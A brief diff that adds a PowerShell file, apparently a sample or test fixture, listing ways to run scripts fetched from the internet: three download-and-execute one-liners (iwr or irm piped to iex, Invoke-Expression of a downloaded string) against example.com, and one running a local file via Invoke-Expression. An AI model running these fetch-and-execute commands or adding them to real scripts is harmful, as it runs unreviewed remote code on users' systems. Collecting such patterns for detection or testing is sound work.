@@ -0,0 +1,6 @@
+# Runs installers straight from the internet
+iwr https://example.com/install.ps1 -UseBasicParsing | iex
+Invoke-Expression (New-Object Net.WebClient).DownloadString('https://example.com/setup.ps1')
+iex "$(irm https://example.com/update.ps1)"
+$code = Get-Content .\local.ps1 -Raw
+Invoke-Expression $code